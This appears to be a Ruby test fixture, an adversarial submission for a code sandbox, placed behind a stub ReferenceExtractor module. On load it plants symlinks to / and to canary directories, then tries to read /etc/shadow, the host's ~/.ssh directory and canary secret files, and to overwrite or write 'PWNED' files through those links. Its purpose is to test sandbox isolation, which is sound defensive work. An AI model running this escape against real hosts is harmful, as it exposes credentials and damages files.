# frozen_string_literal: true

# Adversarial submission __MARKER__: plants symlinks in its work dir — to /, and to the host paths of the canary
# directories (dangling inside the sandbox, live on the host) — reads and writes through them, and leaves them
# behind for whatever host code walks or deletes the work dir afterwards. (rootlink/tmp is the sandbox's own
# throwaway /tmp: that write may succeed there.)
module ReferenceExtractor
  def self.extract(_text)
    []
  end
end

def __try(what)
  result = yield
  warn "LINK #{what}: OK #{result.to_s[0, 200].inspect}"
rescue StandardError => e
  warn "LINK #{what}: FAIL #{e.class}"
end

__try('symlink /') { File.symlink('/', 'rootlink') }
__try('symlink canary tmp') { File.symlink('__CANARY_TMP__', 'canarylink') }
__try('symlink canary home') { File.symlink('__CANARY_HOME__', 'homelink') }
__try('symlink canary file') { File.symlink('__CANARY_TMP__/SECRET.txt', 'secretlink') }
__try('hardlink canary file') { File.link('__CANARY_TMP__/SECRET.txt', 'hardlink') }
__try('read rootlink/etc/shadow') { File.read('rootlink/etc/shadow') }
__try('read rootlink/__HOST_HOME__/.ssh') { Dir.children('rootlink/__HOST_HOME__/.ssh') }
__try('read through canarylink') { File.read('canarylink/SECRET.txt') }
__try('read secretlink') { File.read('secretlink') }
__try('read rootlink/__CANARY_HOME__/SECRET.txt') { File.read('rootlink/__CANARY_HOME__/SECRET.txt') }
__try('write through canarylink') { File.write('canarylink/PWNED-__MARKER__', 'x') }
__try('write through homelink') { File.write('homelink/PWNED-__MARKER__', 'x') }
__try('write through secretlink') { File.write('secretlink', 'overwritten') }
__try('write-private rootlink/tmp') { File.write('rootlink/tmp/PWNED-__MARKER__', 'x') }
